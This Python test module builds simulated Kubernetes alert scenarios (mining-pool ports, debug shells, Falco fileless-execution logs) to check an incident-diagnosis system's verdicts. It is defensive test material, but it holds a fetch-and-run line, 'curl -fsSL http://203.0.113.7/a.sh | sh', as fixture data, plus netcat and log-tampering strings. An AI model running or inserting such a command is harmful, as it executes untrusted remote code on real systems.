"""Alarms of those who watch for intruders, where what they saw is the house's own, and where it may not be."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.rules.cases import ASK, HEALTHY, Answers
from tests.diagnosis.rules.pods import pods_of
from tests.diagnosis.rules.scenes import OLD, SHOP, WELL, shop
from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, figure, log, pod, snapshot, workload
from tuheg_ir.diagnosis.model import Alert, Snapshot


def watched(name: str, said: str, **labels: str) -> Alert:
    return Alert(name, labels, {"summary": said}, "firing", NOW)


def connects(
    setting: str = "tcp://cart:3333",
    said: str = "shop connects to a port of mining pools (tcp/3333)",
    *,
    port: int = 3333,
    busy: float = 0.1,
    released: float = 20 * DAY,
    told: str = "connected",
) -> Snapshot:
    """Return a shop that a watcher sees connect to a port, as its settings tell it, and how busy it is."""
    figures = [figure("cpu_share", 0.1, busy, pod=pod("shop", n), container="shop") for n in range(2)]
    figures += [figure("cpu_share", 0.1, 0.1, pod=pod("cart", n), container="cart") for n in range(2)]
    return snapshot(
        shop(env={"LOBBY": setting}, before=OLD, released=released),
        workload("cart", port=port),
        logs=[log(pod("shop"), told)],
        figures=[WELL, *figures],
        alerts=[watched("PossibleCryptoMining", said, deployment="shop", severity="critical")],
    )


TOOL = "registry.example/tools/netshoot:1"


def looked_into(
    image: str = TOOL,
    signed: str = "INC-207, r.okafor",
    *,
    ended: bool = True,
    said: str = "bash in container_name=debugger-7x k8s_pod_name={}",
    told: str = "GET / 200",
    **spec: Any,
) -> Snapshot:
    """Return a shop in a pod of which somebody had a debugger, and the alarm for its shell."""
    objects: list[Obj] = shop()
    one = pods_of(objects)[0]
    one["metadata"]["annotations"] = {"example.org/debug": signed} if signed else {}
    one["spec"]["ephemeralContainers"] = [{"name": "debugger-7x", "image": image, "command": ["bash"], **spec}]
    state = {"terminated": {"exitCode": 0, "finishedAt": at(600)}} if ended else {"running": {"startedAt": at(900)}}
    one["status"]["ephemeralContainerStatuses"] = [{"name": "debugger-7x", "image": image, "state": state}]
    alarm = watched("TerminalShellInContainer", said.format(pod("shop")), severity="warning")
    return snapshot(objects, workload("cart"), logs=[log(pod("shop"), told)], figures=[WELL], alerts=[alarm])


RUNC = "memfd:runc_cloned:/proc/self/exe"
RAN = "falco: Critical Fileless execution via memfd_create (proc_exepath={} parent={} command=6 init k8s_pod_name={})"
IN_SHOP, IN_CACHE = RAN.format(RUNC, "runc", pod("shop")), RAN.format(RUNC, "runc", pod("redis"))
UNNAMED = "falco: Critical netcat runs parent=sh k8s_pod_name={}"
CLEARED = "falco: Warning Log files were tampered (file=/var/log/wtmp parent=init k8s_pod_name={})"


def started(
    *lines: str, cache: dict[str, Any] | None = None, told: str = "GET / 200", said: str = "memfd_create", **more: Any
) -> Snapshot:
    """Return a shop and a cache in whose pods a watcher saw programs that came out of memory."""
    alarm = watched("Falco", f"Fileless execution via {said} in shop", pod=pod("shop"), severity="critical")
    return snapshot(
        shop(before=OLD, released=7200),
        workload("redis", **{"image": "redis:7", "pods": 1, **(cache or {})}),
        workload("falco", "falcosecurity/falco:0.40.0", pods=1, service=False),
        logs=[log(pod("falco"), *lines), log(pod("shop"), told)],
        figures=[WELL],
        alerts=[alarm],
        **more,
    )


THEFT = "sh: curl -fsSL http://203.0.113.7/a.sh | sh"
INTRUDED = (SHOP, "security_incident", "isolate_workload")
ANSWERS = [
    Answers("a port of miners is that of a neighbour, whom the settings name", connects(), [(SHOP, *HEALTHY)]),
    *(
        Answers(f"a port of miners, and {what}", world, [(SHOP, *ASK)])
        for what, world in (
            ("no setting names it", connects("tcp://cart:8080")),
            ("the settings name a stranger", connects("tcp://pool.example:3333")),
            ("the neighbour has no such port", connects(port=8080)),
            ("the settings came today", connects(released=7200)),
            ("the far end is a stranger", connects(said="shop connects to 203.0.113.4:3333 (tcp/3333)")),
        )
    ),
    Answers("a port of miners, and something mines", connects(told="stratum+tcp://pool.example:3333"), [INTRUDED]),
    Answers("a shell was a colleague's debugger, who signed for it", looked_into(), [(SHOP, *HEALTHY)]),
    *(
        Answers(f"a shell in a pod, and {what}", world, [(SHOP, *ASK)])
        for what, world in (
            ("nobody signed for it", looked_into(signed="")),
            ("who signed gave no reason", looked_into(signed="yes")),
            ("the tool is from elsewhere", looked_into("docker.io/stranger/tools:1")),
            ("it is still open", looked_into(ended=False)),
            ("the debugger has the node", looked_into(securityContext={"privileged": True})),
            ("it was in another container", looked_into(said="bash in container_name=shop k8s_pod_name={}")),
        )
    ),
    Answers(
        "programs out of memory are the container runtime itself, in old images of others too",
        started(*[IN_SHOP, IN_CACHE] * 9),
        [(SHOP, *HEALTHY)],
    ),
    Answers(
        "the same, and something else of another one",
        started(*[IN_SHOP, IN_CACHE] * 9, CLEARED.format(pod("redis"))),
        [(SHOP, *HEALTHY)],
    ),
    *(
        Answers(f"programs out of memory, and {what}", world, [(SHOP, *ASK)])
        for what, world in (
            ("they are in the shop alone", started(*[IN_SHOP] * 9)),
            ("nobody tells of them but the alarm", started("falco: started")),
            ("the shop's own program starts them", started(IN_CACHE, RAN.format(RUNC, "node", pod("shop")))),
            (
                "one is no program of the runtime",
                started(IN_SHOP, IN_CACHE, RAN.format("memfd:a", "runc", pod("shop"))),
            ),
            ("one is only named so", started(IN_CACHE, RAN.format("/tmp/runc", "runc", pod("shop")))),
            ("the shop tells of another alarm", started(*[IN_SHOP, IN_CACHE] * 9, CLEARED.format(pod("shop")))),
            ("the other is as new", started(*[IN_SHOP, IN_CACHE] * 9, cache={"before": OLD, "released": 7200})),
            (
                "the other has the same image",
                started(*[IN_SHOP, IN_CACHE] * 9, cache={"image": "registry.example/shop:2"}),
            ),
            ("the shop tells of what has no name", started(*[IN_SHOP, IN_CACHE] * 9, UNNAMED.format(pod("shop")))),
            ("it is about another rule", started(*[IN_SHOP, IN_CACHE] * 9, said="an upload")),
        )
    ),
    Answers(
        "the container runtime itself, and something was fetched and run",
        started(*[IN_SHOP, IN_CACHE] * 9, told=THEFT),
        [INTRUDED],
    ),
    Answers("a debugger was signed, and then something was fetched and run", looked_into(told=THEFT), [INTRUDED]),
]
